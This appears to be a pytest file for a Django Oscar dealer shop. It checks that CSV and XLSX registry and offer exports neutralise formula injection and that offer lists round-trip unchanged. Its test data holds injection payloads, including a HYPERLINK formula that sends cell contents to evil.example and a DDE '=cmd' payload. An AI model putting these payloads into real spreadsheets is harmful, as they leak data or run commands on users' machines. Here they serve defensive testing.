"""CSV and XLSX exports: no live formulas, and the offers export is the dealer's own price list that
uploads back with no change."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from oscar.core.loading import get_model
from oscar.test.factories import ProductFactory

from suz_oscar.core.spreadsheets import deneutralise, neutralise
from suz_oscar.offers import services
from suz_oscar.test.factories import DealerFactory

from .conftest import client_for

Product = get_model("catalogue", "Product")
ProductClass = get_model("catalogue", "ProductClass")
StockRecord = get_model("partner", "StockRecord")
RecommendedPrice = get_model("suz_offers", "RecommendedPrice")
OfferImport = get_model("suz_offers", "OfferImport")

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"Скидка")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def inert(value):
    """A cell no spreadsheet runs: a plain number, or text not starting with a formula character."""
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", str(value)) or not str(value).startswith(
        ("=", "+", "-", "@", "\t", "\r"))


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_neutralise_text_only():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralise("Плинтус") == "Плинтус" and neutralise("") == "" and neutralise(None) is None
    assert neutralise(-5) == -5 and neutralise(Decimal("-1.50")) == Decimal("-1.50") and neutralise(-2.5) == -2.5
    assert all(deneutralise(neutralise(v)) == v for v in [*HOSTILE, "'quoted", "plain", "'"])


# The manufacturer's dealer registry --------------------------------------------------------------------

REGISTRY = reverse("suz_dashboard:suz-dealer-list")


@pytest.fixture
def hostile_dealers(db):
    for name in HOSTILE:
        DealerFactory(partner__name=name, rating=1)
    return DealerFactory(partner__name="Штрафник", rating=Decimal("-5"))


def test_registry_csv_export_is_inert_and_keeps_negative_numbers(staff, hostile_dealers):
    rows = csv_rows(client_for(staff).get(REGISTRY, {"_export": "csv"}))
    header, data = rows[0], rows[1:]
    names = {row[0] for row in data}
    assert {"'" + name for name in HOSTILE} <= names
    assert all(inert(cell) for row in data for cell in row)
    rating = header.index("Рейтинг")
    assert next(row for row in data if row[0] == "Штрафник")[rating] == "-5"  # a number, not guarded text


def test_registry_xlsx_export_is_inert_and_keeps_negative_numbers(staff, hostile_dealers):
    sheet = xlsx_sheet(client_for(staff).get(REGISTRY, {"_export": "xlsx"}))
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert all(cell.data_type != "f" and inert(cell.value or "") for row in rows[1:] for cell in row)
    # XML reads a carriage return back as a line feed.
    assert {"'" + name.replace("\r", "\n") for name in HOSTILE} <= {row[0].value for row in rows[1:]}
    penalised = next(row for row in rows if row[0].value == "Штрафник")
    cell = penalised[header.index("Рейтинг")]
    assert cell.value == -5 and cell.data_type == "n"


@pytest.mark.parametrize("fmt", ["yaml", "json", "xls", "ods", "latex", "tsv"])
def test_registry_serves_no_other_export_format(staff, hostile_dealers, fmt):
    response = client_for(staff).get(REGISTRY, {"_export": fmt})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


# The offers export --------------------------------------------------------------------------------------


def offers_url(dealer, name="suz-offer-export", **kw):
    return reverse(f"suz_dashboard:{name}", kwargs={"pk": dealer.pk, **kw})


def offer(dealer, product, price=None, stock=None):
    return StockRecord.objects.create(partner=dealer.partner, product=product, partner_sku=f"s-{product.pk}",
                                      price=price, num_in_stock=stock)


@pytest.fixture
def shop(db, dealer_a, dealer_b):
    """A catalogue with every kind of row: priced and not, services, a variant, own products of both dealers.

    ``dealer_a`` keeps its own price list; ``dealer_b`` offers the whole line.
    """
    def product(title, upc, rrp=None, **kwargs):
        made = ProductFactory(title=title, upc=upc, stockrecords=[], **kwargs)
        if rrp is not None:
            RecommendedPrice.objects.create(product=made, price=Decimal(rrp))
        return made

    p = {
        "panel": product("Панель стеновая", "PL-0", "100"),
        "skirting": product("Плинтус", "PL-1", "200"),
        "moulding": product("Молдинг", "PL-2", "300.50"),
        "unpriced": product("Розетка потолочная", "NR-3"),
        "formula_sku": product("Уголок", "-2+3", "50"),
        "service": product("Монтаж", "SRV-1", "1500", product_class=ProductClass.objects.get(slug="services")),
    }
    parent = ProductFactory(title="Панель цветная", upc=None, structure=Product.PARENT, stockrecords=[])
    p["variant"] = ProductFactory(title="", upc="PC-RED", structure=Product.CHILD, parent=parent,
                                  product_class=None, stockrecords=[])
    RecommendedPrice.objects.create(product=p["variant"], price=Decimal(700))
    p["parent"] = parent
    p["own_a"] = services.own_product_save(dealer=dealer_a, title=HOSTILE[0], price=Decimal("390.90"),
                                           availability="in_stock", quantity=40)
    p["own_b"] = services.own_product_save(dealer=dealer_b, title="=cmd|' /C calc'!A0", price=Decimal(10),
                                           availability="on_order")

    offer(dealer_a, p["panel"], Decimal("95.50"), 12)
    offer(dealer_a, p["skirting"], None, 0)  # recommended price, on order
    offer(dealer_a, p["moulding"], Decimal("1234.56"), None)  # in stock, no number
    offer(dealer_a, p["unpriced"], Decimal("77.07"), 1)
    offer(dealer_a, p["service"], Decimal(1450))
    # formula_sku and the variant: not offered by A

    dealer_b.offers_whole_line = True
    dealer_b.save()
    offer(dealer_b, p["panel"], Decimal("80.10"), 3)
    offer(dealer_b, p["skirting"], None, None)  # materialised whole-line offer, as after a purchase
    return p


def exported(client, dealer, fmt):
    response = client.get(offers_url(dealer), {"format": fmt})
    assert response.status_code == 200
    if fmt == "csv":
        return response, csv_rows(response)
    return response, [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


def snapshot(dealer):
    return sorted(StockRecord.objects.filter(partner=dealer.partner).values_list("product_id", "price",
                                                                                  "num_in_stock", "partner_sku"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("who", ["dealer_a", "dealer_b"])
def test_offers_export_is_the_dealers_catalogue_and_uploads_back_with_no_change(request, shop, fmt, who):
    dealer = request.getfixturevalue(who)
    other = request.getfixturevalue("dealer_b" if who == "dealer_a" else "dealer_a")
    client = client_for(request.getfixturevalue("manager_a" if who == "dealer_a" else "manager_b"))
    response, rows = exported(client, dealer, fmt)

    skus = [str(row[0]) for row in rows[1:]]
    own, theirs = shop[f"own_{who[-1]}"], shop[f"own_{'b' if who == 'dealer_a' else 'a'}"]
    assert f"suz-{own.pk}" in skus and f"suz-{theirs.pk}" not in skus  # never a competitor's own product
    assert "SRV-1" in skus and "PC-RED" in skus and len(skus) == len(set(skus))
    assert len(skus) == 8  # 6 products (a service among them), the variant (not its parent), its own product
    assert not any(theirs.title in str(cell) for row in rows for cell in row)

    before = snapshot(dealer)
    others_before = snapshot(other)
    upload = client.post(offers_url(dealer, "suz-offer-import"),
                         {"file": SimpleUploadedFile(f"offers.{fmt}", response.content)})
    assert upload.status_code == 302
    record = OfferImport.objects.get(dealer=dealer)
    assert record.errors == []
    assert len(record.rows) == 8
    assert services.offer_import_apply(offer_import=record) == (0, 0, 0)
    assert snapshot(dealer) == before and snapshot(other) == others_before


def test_whole_line_export_reads_as_offered(manager_b, dealer_b, shop):
    _, rows = exported(client_for(manager_b), dealer_b, "xlsx")
    by_sku = {row[0]: row for row in rows[1:]}
    assert by_sku["PL-0"][3:] == [80.1, "в наличии", 3]
    assert by_sku["PL-2"][2:] == [300.5, None, "в наличии", None]  # implied: recommended price, no number
    assert by_sku["NR-3"][4] == "нет"  # no recommended price: not part of the whole line


def test_round_trip_keeps_a_real_change(manager_a, dealer_a, shop):
    client = client_for(manager_a)
    _, rows = exported(client, dealer_a, "csv")
    for row in rows[1:]:
        if row[0] == "PL-0":
            row[3], row[5] = "99,90", "7"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    client.post(offers_url(dealer_a, "suz-offer-import"),
                {"file": SimpleUploadedFile("offers.csv", out.getvalue().encode())})
    record = OfferImport.objects.get(dealer=dealer_a)
    assert record.errors == []
    assert services.offer_import_apply(offer_import=record) == (0, 1, 0)
    changed = StockRecord.objects.get(partner=dealer_a.partner, product=shop["panel"])
    assert (changed.price, changed.num_in_stock) == (Decimal("99.90"), 7)


def test_whole_line_in_stock_row_at_the_recommended_price_writes_nothing(dealer_b, shop):
    rows = [{"product_id": shop["moulding"].pk, "price": None, "availability": "in_stock", "quantity": None}]
    assert services.offers_apply(dealer=dealer_b, rows=rows) == (0, 0, 0)
    assert not StockRecord.objects.filter(partner=dealer_b.partner, product=shop["moulding"]).exists()
    rows[0]["quantity"] = 5  # a number is a real offer
    assert services.offers_apply(dealer=dealer_b, rows=rows) == (1, 0, 0)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_offers_export_is_inert_and_keeps_numbers(manager_a, dealer_a, shop, fmt):
    response, rows = exported(client_for(manager_a), dealer_a, fmt)
    assert all(inert(cell if cell is not None else "") for row in rows for cell in row)
    by_sku = {row[0]: row for row in rows[1:]}
    assert by_sku[f"suz-{shop['own_a'].pk}"][1] == "'" + HOSTILE[0]
    assert "'-2+3" in by_sku
    if fmt == "xlsx":
        sheet = xlsx_sheet(response)
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        assert by_sku["PL-0"][3] == 95.5 and by_sku["PL-0"][5] == 12  # numbers stay numbers
    else:
        assert by_sku["PL-0"][3] == "95.50" and by_sku["PL-0"][5] == "12"
